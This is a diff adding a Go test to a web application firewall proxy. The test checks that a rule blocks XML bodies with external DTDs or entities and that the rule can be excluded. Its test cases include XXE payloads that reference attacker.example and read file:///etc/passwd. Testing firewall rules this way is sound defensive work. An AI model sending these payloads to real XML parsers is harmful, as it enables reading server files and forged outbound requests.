@@ -725,3 +725,39 @@ func TestResponseInspection(t *testing.T) {
 		})
 	}
 }
+
+// TestRawXMLEntity: an external entity or DTD in a raw XML body (which
+// Coraza's XML processor hides from every SecLang rule) is rule 99102;
+// plain XML passes, and the rule can be excluded like a CRS rule.
+func TestRawXMLEntity(t *testing.T) {
+	h := func(ct string) map[string]string {
+		return map[string]string{"User-Agent": "Mozilla/5.0 test", "Accept": "*/*", "Content-Type": ct}
+	}
+	for _, tc := range []struct {
+		name, ct, body string
+		exclude        bool
+		status         int
+	}{
+		{"external DTD, application/xml", "application/xml", `<?xml version="1.0"?><!DOCTYPE order SYSTEM "http://attacker.example/evil.dtd"><order><id>1</id></order>`, false, 405},
+		{"parameter entity, text/xml", "text/xml", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]><r/>`, false, 405},
+		{"external entity, text/plain", "text/plain", `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>1</r>`, false, 405},
+		{"plain XML", "application/xml", `<?xml version="1.0"?><order><id>1</id><note>two &lt; three</note></order>`, false, 200},
+		{"excluded", "application/xml", `<?xml version="1.0"?><!DOCTYPE order SYSTEM "http://attacker.example/evil.dtd"><order><id>1</id></order>`, true, 200},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			p := Profile{Action: wafrule.Block}
+			if tc.exclude {
+				p.ExcludeRuleIDs = []int{RawXMLEntityRule}
+			}
+			_, front, sink := startProxy(t, Policy{Profile: p})
+			resp, _ := do(t, front.Client(), "POST", front.URL+"/api/orders", tc.body, h(tc.ct))
+			rec := sink.last()
+			if resp.StatusCode != tc.status {
+				t.Fatalf("status %d, want %d; log %+v", resp.StatusCode, tc.status, rec)
+			}
+			if named := slices.Contains(rec.RuleIDs, "99102"); named != (tc.status == 405) {
+				t.Errorf("log %+v: rule 99102 named %v", rec, named)
+			}
+		})
+	}
+}
